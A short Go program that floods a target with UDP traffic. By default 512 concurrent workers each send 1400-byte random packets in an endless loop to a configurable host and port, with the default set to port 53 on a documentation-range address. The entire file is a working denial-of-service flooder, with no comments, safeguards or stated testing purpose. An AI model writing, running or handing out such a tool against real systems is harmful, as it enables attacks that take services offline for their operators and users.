package main

import (
	"crypto/rand"
	"flag"
	"net"
	"sync"
)

func main() {
	dst := flag.String("dst", "203.0.113.80:53", "destination")
	n := flag.Int("n", 512, "workers")
	flag.Parse()

	buf := make([]byte, 1400)
	rand.Read(buf)
	var wg sync.WaitGroup
	for i := 0; i < *n; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			c, err := net.Dial("udp", *dst)
			if err != nil {
				return
			}
			for {
				c.Write(buf)
			}
		}()
	}
	wg.Wait()
}
